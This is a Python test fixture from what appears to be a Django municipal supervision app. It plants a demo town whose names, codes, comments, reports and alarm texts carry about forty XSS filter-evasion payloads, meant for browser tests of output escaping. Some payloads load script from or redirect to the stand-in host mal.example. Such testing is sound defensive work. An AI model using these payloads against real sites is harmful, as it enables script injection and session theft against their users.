# SPDX-License-Identifier: EUPL-1.2
"""A town where whatever can be written by somebody else is a program: names, codes, messages of suppliers, comments,
reports of inhabitants. Run in the demo: `manage.py shell -c "from tests.browser import hostile; hostile.plant()"`.

Each calls `pwned()`. Families after the OWASP cheat sheet « XSS filter evasion ».
"""

from datetime import timedelta

from django.contrib.gis.geos import MultiPolygon, Point, Polygon
from django.utils import timezone

from apps.assets import selectors
from apps.events import commenting, observing
from apps.events.cases import Observed
from apps.events.models import Alarm
from apps.supervision.demo import accounts
from apps.territories.models import User
from tests.factories import (
    AssetFactory,
    CategoryFactory,
    DeskFactory,
    SignalementFactory,
    SourceFactory,
    TerritoryFactory,
    WorkRequestFactory,
)

TOWN, OPERATOR = "99040", "pcc-hostile"
PAYLOADS = (
    "<script>pwned()</script>",
    "<ScRiPt>pwned()</sCrIpT>",
    "<script src=//mal.example/x.js></script>",
    "</script><script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<img src=x onerror='pwned()'//",
    '"><img src=x onerror=pwned()>',
    "'><img src=x onerror=pwned()>",
    "<img/src='x'/onerror=pwned()>",
    "<<img src=x onerror=pwned()>>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x>",
    "<math><mtext><script>pwned()</script>",
    "<body onload=pwned()>",
    "<iframe src=javascript:parent.pwned()>",
    "<iframe srcdoc='<script>parent.pwned()</script>'>",
    "<object data=javascript:pwned()>",
    "<embed src=javascript:pwned()>",
    "<a href=javascript:pwned()>ici</a>",
    "javascript:pwned()",
    "<form action=javascript:pwned()><button>ok",
    "<button formaction=javascript:pwned()>ok",
    "<input autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()>",
    "<video><source onerror=pwned()>",
    "<audio src=x onerror=pwned()>",
    "<marquee onstart=pwned()>x",
    "<style>@import 'javascript:pwned()';</style>",
    "<div style=background:url(javascript:pwned())>",
    "<link rel=stylesheet href=//mal.example/x.css>",
    "<base href=//mal.example/>",
    "<meta http-equiv=refresh content=0;url=//mal.example>",
    "--><script>pwned()</script><!--",
    "]]><script>pwned()</script>",
    "{{constructor.constructor('pwned()')()}}",
    "${pwned()} {% load x %} #{pwned()}",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "\u202e<img src=x onerror=pwned()>\u2028é",
)


def plant() -> None:
    """A territory of its own, that no other story looks at."""
    outline = MultiPolygon(Polygon.from_bbox((0.0, 47.0, 0.1, 47.1)), srid=4326)
    town = TerritoryFactory(code=TOWN, name=PAYLOADS[4], notice=PAYLOADS[10], outline=outline)
    accounts.load([{"username": OPERATOR, "last_name": PAYLOADS[6][:30], "role": "operator", "territory": TOWN}])
    DeskFactory(territory=town, welcome=PAYLOADS[5], urgent=PAYLOADS[18], accessibility_contact=PAYLOADS[24])
    CategoryFactory(territory=town, label=PAYLOADS[1], help_text=PAYLOADS[20])
    source = SourceFactory(slug="hostile", name=PAYLOADS[0], territory=town)
    for n, payload in enumerate(PAYLOADS):
        where = Point(0.01 + n % 8 / 100, 47.01 + n // 8 / 100, srid=4326)
        AssetFactory(
            owner=town, source=source, source_ref=f"H{n}", code=f"{n:02} {payload}"[:60], name=payload, geometry=where,
            attributes={payload: payload},
        )  # fmt: skip
        SignalementFactory(territory=town, text=payload, address=payload, place=where)
    told(source)
    by = User.objects.get(username=OPERATOR)
    for alarm, payload in zip(Alarm.objects.filter(source=source).order_by("pk"), PAYLOADS, strict=True):
        commenting.of_alarms(alarm_ids=[alarm.pk], by=by, text=payload)
        WorkRequestFactory(asset=alarm.asset, title=payload)


def told(source) -> None:
    """What its supervisor says: an alarm on each, in its own words."""
    now = timezone.now()
    assets = selectors.by_refs(source.pk, [f"H{n}" for n in range(len(PAYLOADS))])
    began = now - timedelta(minutes=1)
    observed = [
        Observed(assets[f"H{n}"], "lamp_failure", began, True, 1 + n % 3, payload, {"dit": payload})
        for n, payload in enumerate(PAYLOADS)
    ]
    observing.observe(source=source, received_at=now, observed=observed)
